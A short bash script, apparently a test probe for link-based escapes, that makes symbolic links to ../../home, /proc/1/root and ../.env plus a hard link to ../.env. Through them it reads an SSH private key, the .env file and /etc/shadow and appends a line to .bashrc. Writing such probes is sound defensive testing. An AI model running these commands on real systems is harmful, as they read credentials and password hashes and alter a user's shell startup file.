#!/usr/bin/env bash
# Leaves links that lead out, and reads and writes through them.
ln -s ../../home home; ln -s /proc/1/root root; ln -s ../.env env; ln ../.env hard
cat home/.ssh/id_rsa env hard root/etc/shadow
echo changed >> home/.bashrc
echo done
